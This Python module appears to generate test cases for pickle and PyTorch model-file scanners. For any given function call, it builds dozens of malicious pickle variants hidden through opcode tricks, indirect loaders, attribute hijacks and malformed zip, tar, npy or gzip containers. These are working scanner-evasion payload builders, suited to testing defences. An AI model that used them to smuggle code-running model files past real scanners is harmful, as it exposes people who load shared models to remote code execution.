"""Hostile files: the shapes in which payloads were hidden from scanners of pickles.

hidden_in(call) gives, for a pickle fragment that makes a call, files by name. What a file runs is proved beside it:
`loads` is how Python falls for it ("pickle", "torch", or None where it needs a library that is not here or makes a reader
that would take it fail first).
"""
import gzip
import io
import pickle
import struct
import tarfile
import zipfile
from dataclasses import dataclass

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
PROTOCOL = pickle.dumps(1001, 2)
SYSTEM = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)


@dataclass
class Shape:
    data: bytes
    loads: str | None = "pickle"
    name: str = "model.pt"


def text(value, code=b"X"):
    raw = value.encode()
    return code + struct.pack("<I", len(raw)) + raw


def call(module, name, argument):
    """Opcodes that leave name(argument), without a frame around them."""
    return f"c{module}\n{name}\n".encode() + text(argument) + b"\x85R"


def stack_global(module, name):
    return b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def archive(entries, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **options) as made:
        for name, data in entries:
            made.writestr(name, data)
    return out.getvalue()


def torch_file(data):
    return archive([("archive/data.pkl", data), ("archive/version", b"3\n"), ("archive/byteorder", b"little")])


def with_flag(data, bit):
    """The archive with a flag bit set in every header."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] |= bit
            at = out.find(signature, at + 1)
    return bytes(out)


def with_other_crc(data):
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] ^= 0xFF
            at = out.find(signature, at + 1)
    return bytes(out)


def tar(data, old):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as made:
        info = tarfile.TarInfo("pickle")
        info.size = len(data)
        made.addfile(info, io.BytesIO(data))
    made = bytearray(out.getvalue())
    if old:  # as before POSIX: no magic
        made[257:265] = bytes(8)
        made[148:156] = b" " * 8
        made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


def npy(data):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def of_opcodes(run, module, name, argument):
    """By the opcodes of the call itself."""
    plain = f"c{module}\n{name}\n".encode()
    arguments = text(argument) + b"\x85"
    quoted = f"S'{argument}'\n".encode()
    escaped = "".join(f"\\u{ord(c):04x}" for c in module)
    hexed = "".join(f"\\x{ord(c):02x}" for c in module)
    yield "global", Shape(b"\x80\x02" + run + b".")
    yield "protocol 0", Shape(f"c{module}\n{name}\n(".encode() + quoted + b"tR.")
    yield "stack global", Shape(b"\x80\x04" + stack_global(module, name) + arguments + b"R.")
    yield "unicode escapes", Shape(f"\x80\x04V{escaped}\nV{name}\n".encode("latin1") + b"\x93" + arguments + b"R.")
    yield "string escapes", Shape(f"\x80\x04S'{hexed}'\nS'{name}'\n".encode("latin1") + b"\x93" + arguments + b"R.")
    yield "stack global of protocol 2", Shape(b"\x80\x02" + stack_global(module, name) + arguments + b"R.")
    yield "inst", Shape(b"(" + quoted + f"i{module}\n{name}\n.".encode())
    yield "obj", Shape(b"\x80\x02(" + plain + text(argument) + b"o.")
    yield "frame across", Shape(b"\x80\x04\x95" + struct.pack("<Q", 3) + run + b".")
    yield "protocol inside", Shape(b"\x80\x02N0\x80\x04" + run + b".")
    yield "key twice", Shape(b"\x80\x02}X\1\0\0\0aNsX\1\0\0\0aNs0" + run + b".")
    yield "popped", Shape(b"\x80\x02" + run + b"0N.")
    yield "more on the stack", Shape(b"\x80\x02NN" + run + b".")
    yield "popped with a mark", Shape(b"\x80\x02(" + run + b"1N.")
    yield "an exception behind", Shape(b"\x80\x02" + run + b"R.")
    yield "cut behind", Shape(b"\x80\x02" + run)
    yield "no opcode behind", Shape(b"\x80\x02" + run + b"\xff.")
    yield "in a cycle", Shape(b"\x80\x02]q\1h\1a" + run + b"a.")
    yield "as a key", Shape(b"\x80\x02}" + run + b"Ns.")
    yield "put and memoize", Shape(  # readers that count only one of them take another name
        b"\x80\x04" + text(module) + b"q\0" + text(name) + b"q\1"
        + text("torch._utils") + b"\x940" + text("_rebuild_tensor_v2") + b"\x9400h\0h\1\x93" + arguments + b"R.")
    yield "numbers of the memo", Shape(
        b"\x80\x04" + text(module) + b"p1_0\n" + text(name) + b"p +7 \n00g10\ng 7\n\x93" + arguments + b"R.")
    yield "duplicated", Shape(b"\x80\x02" + plain + b"2" + arguments + b"R0" + b".")


def of_calls(run, module, name, argument):
    """By what is called."""
    plain = f"c{module}\n{name}\n".encode()
    inner = b"\x80\x02" + run + b"."
    in_bytes = b"C" + bytes([len(inner)]) + inner
    yield "loads", Shape(b"\x80\x03cpickle\nloads\n" + in_bytes + b"\x85R.")
    yield "loads of _pickle", Shape(b"\x80\x03c_pickle\nloads\n" + in_bytes + b"\x85R.")
    yield "loads of latin1", Shape(
        b"\x80\x02cpickle\nloads\nc_codecs\nencode\n" + text(inner.decode("latin1")) + text("latin1") + b"\x86R\x85R.")
    yield "load_from_bytes", Shape(b"\x80\x03ctorch.storage\n_load_from_bytes\n" + in_bytes + b"\x85R.", "torch")
    yield "partial", Shape(b"\x80\x02cfunctools\npartial\n" + plain + b"\x85R" + text(argument) + b"\x85R.")
    yield "map", Shape(b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + plain + b"]" + text(argument) + b"a\x86R\x85R.")
    yield "type of", Shape(b"\x80\x02cbuiltins\nmap\ncbuiltins\ntype\ncbuiltins\nmap\n)R\x85R" + plain + b"\x86R.", None)
    yield "default factory", Shape(b"\x80\x02ccollections\ndefaultdict\n" + plain + b"\x85R.", None)
    yield "rebuild from type", Shape(
        b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + plain + b"ctorch\nTensor\n" + text(argument)
        + b"\x85}tR.", "torch")
    yield "a class gets a method", Shape(
        b"\x80\x02ctorch.nn.modules.linear\nLinear\nN}" + text("forward") + plain + b"s\x86b.", None)
    yield "a class of a call gets one", Shape(
        b"\x80\x02ctorch.jit._pickle\nrestore_type_tag\nctorch.nn.modules.linear\nLinear\n" + text("")
        + b"\x86RN}" + text("forward") + plain + b"s\x86b.", None)
    yield "a class by rebuild", Shape(
        b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.jit._pickle\nrestore_type_tag\ncbuiltins\ntype\n"
        b"ctorch.nn.modules.linear\nLinear\n" + text("") + b"\x86}" + text("forward") + plain + b"stR.", None)
    yield "a class alone gets one", Shape(  # every name is vetted: only the use is not
        b"\x80\x02ctorch.nn.modules.linear\nLinear\nN}" + text("forward") + b"ctorch.serialization\n_get_layout\ns\x86b.",
        None)
    yield "an instance of a class that is made", Shape(
        b"\x80\x02cbuiltins\ntype\n" + text("X") + b")}" + text("__setstate__") + plain + b"s\x87R)\x81" + text(argument)
        + b"b.")


def of_attributes(run, module, name, argument):
    """By what CPython and vetted functions call: attributes of what they get. The sink takes a file of torch."""
    inner = torch_file(b"\x80\x02" + run + b".")
    sink = b"ctorch.storage\n_load_from_bytes\n"
    payload = b"B" + struct.pack("<I", len(inner)) + inner
    module_of = b"ctorch.nn.modules.linear\nIdentity\n)\x81}(" + text("_modules") + b"}" + text("_parameters") + b"}" + text(
        "_buffers") + b"}"
    yield "a state that takes states", Shape(
        b"\x80\x03cargparse\nNamespace\n)\x81}" + text("__setstate__") + sink + b"sb" + payload + b"b.", "torch")
    yield "the same by slots", Shape(
        b"\x80\x03cargparse\nNamespace\n)\x81N}" + text("__setstate__") + sink + b"s\x86b" + payload + b"b.", "torch")
    yield "an attribute that appends", Shape(
        b"\x80\x03ccollections\nCounter\n)\x81}" + text("append") + sink + b"sb" + payload + b"a.", "torch")
    yield "the same of an OrderedDict", Shape(
        b"\x80\x03ccollections\nOrderedDict\n)R}" + text("append") + sink + b"sb" + payload + b"a.", "torch")
    yield "a module that makes a class", Shape(
        b"\x80\x03ctorch._tensor\n_rebuild_from_type_v2\n(ctorch._utils\n_rebuild_device_tensor_from_cpu_tensor\n" + payload
        + b"(" + module_of + text("as_subclass") + sink + b"ubNN\x89t}tR.", "torch")
    yield "a state in a list that changes", Shape(  # what is in a container changes behind its back
        b"\x80\x03cargparse\nNamespace\n)\x81}q\1h\1\x850" + text("__setstate__") + sink + b"sb" + payload + b"b.", "torch")
    yield "flags of a dtype", Shape(
        b"\x80\x03cnumpy\ndtype\n" + text("V8") + b"\x89\x88\x87R(K\3" + text("|") + b"N" + text("a") + b"\x85}" + text("a")
        + b"cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87RK\0\x86sK\x08K\1K\x01tb.", None)
    yield "getattr by an id", Shape(
        b"\x80\x02(" + text("module") + b"cbuiltins\ngetattr\n" + text("") + text("") + b"tQ.", None)
    yield "an id of bytes", Shape(b"\x80\x03(C\6modulectorch\nTensor\n" + text("") + text("") + b"tQ.", None)


def of_files(run, module, name, argument):
    """By the file around it."""
    inner = b"\x80\x02" + run + b"."
    bare = f"c{module}\n{name}\n(S'{argument}'\ntR.".encode()
    good = torch_file(pickle.dumps({"a": 1}, 2))
    tail = pickle.dumps([], 2)
    yield "torch.save", Shape(torch_file(inner), "torch")
    yield "stream", Shape(MAGIC + PROTOCOL + SYSTEM + inner + tail, "torch")
    yield "stream, protocol 0", Shape(MAGIC + PROTOCOL + SYSTEM + bare + tail, "torch")
    yield "stream, the first pickle", Shape(inner + PROTOCOL + SYSTEM + tail + tail, "torch")
    yield "stream, the list of storages", Shape(MAGIC + PROTOCOL + SYSTEM + tail + bare, "torch")
    yield "behind a pickle", Shape(pickle.dumps(1, 2) + inner, None, "model.bin")
    yield "text behind a pickle", Shape(pickle.dumps(1, 2) + bare, None, "model.bin")
    yield "a brace at 8", Shape(b"\x80\x02" + text("{" * 8)[:1] + struct.pack("<I", 9) + b"a{aaaaaaa0" + run + b".")
    yield "no suffix", Shape(bare, "pickle", "weights")
    yield "a suffix of text", Shape(bare, "pickle", "notes.txt")
    yield "a file in an archive", Shape(
        archive([("archive/data.pkl", pickle.dumps({}, 2)), ("archive/version", b"3\n"), ("archive/x/evil.pt",
                                                                                         torch_file(inner))]), None)
    yield "a pickle among the storages", Shape(
        archive([("archive/data.pkl", pickle.dumps({}, 2)), ("archive/version", b"3\n"),
                 ("archive/data/evil.pkl", inner)]), None)
    yield "wrong CRC", Shape(with_other_crc(torch_file(inner)), None)
    yield "encrypted in name", Shape(with_flag(torch_file(inner), 1), None)
    yield "compressed", Shape(
        archive([("archive/data.pkl", inner), ("archive/version", b"3\n"), ("archive/byteorder", b"little")],
                compression=zipfile.ZIP_DEFLATED), "torch")
    yield "two directories", Shape(torch_file(inner) + good, None)
    yield "behind an archive", Shape(good + torch_file(inner), None)
    yield "in front of an archive", Shape(inner + good)
    yield "a name twice", Shape(
        archive([("archive/data.pkl", pickle.dumps({}, 2)), ("archive/version", b"3\n"), ("archive/data.pkl", inner)]),
        None)
    yield "an archive with a comment", Shape(torch_file(inner)[:-2] + b"\2\0hi", None)
    yield "tar", Shape(tar(inner, False), None)
    yield "tar without magic", Shape(tar(inner, True), None)
    made = bytearray(tar(inner, True))
    for title, digits in (("of bytes", b"\x80\0\0\0" + struct.pack(">I", int(made[148:154], 8))),
                          ("in front of a NUL", made[148:154] + b"\0" + b"9"), ("of Python", b"0o" + made[149:154] + b"\0")):
        made[148:156] = digits
        yield f"a tar whose sum is {title}", Shape(bytes(made), None)
    yield "a zip record of a tar", Shape(b"PK\6\6" + tar(inner, True)[4:], None)
    yield "a limit in a file without a name", Shape(b"(" * 3000 + run + b".", "pickle", "weights")
    yield "PKL", Shape(
        archive([("archive/Data.PKL", inner), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]), "torch")
    yield "an array among the storages", Shape(archive([("x/data/a.npy", npy(inner))]), None, "a.npz")
    yield "an entry with a NUL", Shape(
        archive([("a.npyX/data/0", npy(inner))]).replace(b"a.npyX", b"a.npy\0"), None, "a.npz")
    yield "objects by another word", Shape(npy(inner).replace(b"'|O', ", b"'O8', "), None, "a.npy")
    yield "a second array", Shape(
        b"\x93NUMPY\x01\x00" + struct.pack("<H", 118)
        + b"{'descr': '|u1', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + b"x" + npy(inner), None, "a.npy")
    yield "a sixth pickle", Shape(MAGIC + PROTOCOL + SYSTEM + tail + tail + inner, None)
    yield "gzip", Shape(gzip.compress(inner), None, "model.pkl.gz")
    yield "7z", Shape(b"7z\xbc\xaf\x27\x1c" + bytes(26), None, "model.7z")
    yield "an array of objects", Shape(npy(inner), None, "a.npy")
    yield "arrays of objects", Shape(archive([("a.npy", npy(inner))]), None, "a.npz")
    yield "TorchScript", Shape(
        archive([("m/constants.pkl", pickle.dumps((), 2)), ("m/data.pkl", pickle.dumps({}, 2)),
                 ("m/code/__torch__.py", b"def f(): pass"), ("m/version", b"3\n")]), None)


def hidden_in(module, name, argument):
    run = call(module, name, argument)
    for group in (of_opcodes, of_calls, of_attributes, of_files):
        for title, shape in group(run, module, name, argument):
            yield title, shape
